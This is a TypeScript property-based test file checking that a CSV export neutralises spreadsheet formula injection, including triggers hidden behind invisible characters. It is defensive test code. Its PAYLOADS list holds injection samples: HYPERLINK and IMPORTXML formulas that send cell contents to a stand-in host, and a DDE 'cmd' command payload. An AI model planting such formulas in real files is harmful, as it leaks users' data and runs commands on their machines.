// CSV export against spreadsheet formula injection, as properties over the payload families a spreadsheet may read as
// a formula: a trigger (= + - @, full-width ＝ ＋ － ＠, small forms) behind any run of whitespace or invisible characters
// (space, tab, CR, LF, NBSP, BOM, zero-width space/joiners, word joiner, ideographic space, line separators).
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/store/export.ts';

const INVISIBLES = [' ', '\t', '\r', '\n', '\u00a0', '\ufeff', '\u200b', '\u200c', '\u200d', '\u2060', '\u3000', '\u2028', '\u2029', '\u180e', '\u00ad', '\u202e'];
const TRIGGERS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b'];
const PAYLOADS = ['SUM(A1:A9)', 'HYPERLINK("http://x.example/?"&A1,"click")', 'cmd|\' /C calc\'!A0', '1+1', '', 'IMPORTXML(CONCAT("http://x.example/",A2),"//a")'];

/** Reads one CSV cell back as a spreadsheet would (RFC 4180 quoting). */
function unquote(cell: string): string {
  if (!cell.startsWith('"')) return cell;
  expect(cell.endsWith('"')).toBe(true);
  const inner = cell.slice(1, -1);
  expect(inner.replace(/""/g, '')).not.toContain('"');
  return inner.replace(/""/g, '"');
}

const prefix = fc.array(fc.constantFrom(...INVISIBLES), { maxLength: 6 }).map((a) => a.join(''));
const trigger = fc.constantFrom(...TRIGGERS);
const rest = fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ unit: 'grapheme', maxLength: 40 }));

describe('CSV cells are safe against formula injection', () => {
  it('neutralises a trigger behind any leading whitespace or invisible characters, keeping the text', () => {
    fc.assert(fc.property(prefix, trigger, rest, (p, t, r) => {
      const value = p + t + r;
      const read = unquote(csvCell(value));
      expect(read).toBe(`'${value}`);
    }), { numRuns: 5000 });
  });

  it('never loses or changes text: a cell reads back as the value, with at most a leading apostrophe', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 60 }), (value) => {
      const cell = csvCell(value);
      const read = unquote(cell);
      expect([value, `'${value}`]).toContain(read);
      if (/[",\r\n]/.test(read)) expect(cell.startsWith('"')).toBe(true);
    }), { numRuns: 5000 });
  });

  it('leaves plain text and numbers alone (negative numbers stay numbers)', () => {
    expect(csvCell('tired but okay')).toBe('tired but okay');
    expect(csvCell(' calm day')).toBe(' calm day');
    expect(csvCell(-23.5)).toBe('-23.5');
    expect(csvCell(0.123456789)).toBe('0.1235');
    expect(csvCell(215.34567)).toBe('215.3');
    expect(csvCell(1200)).toBe('1200');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('\u00a0=1+1')).toBe("'\u00a0=1+1");
    expect(csvCell('\ufeff@SUM(A1)')).toBe("'\ufeff@SUM(A1)");
    expect(csvCell('\uff1dSUM(A1)')).toBe("'\uff1dSUM(A1)");
    expect(csvCell('\n=1')).toBe('"\'\n=1"');
  });
});
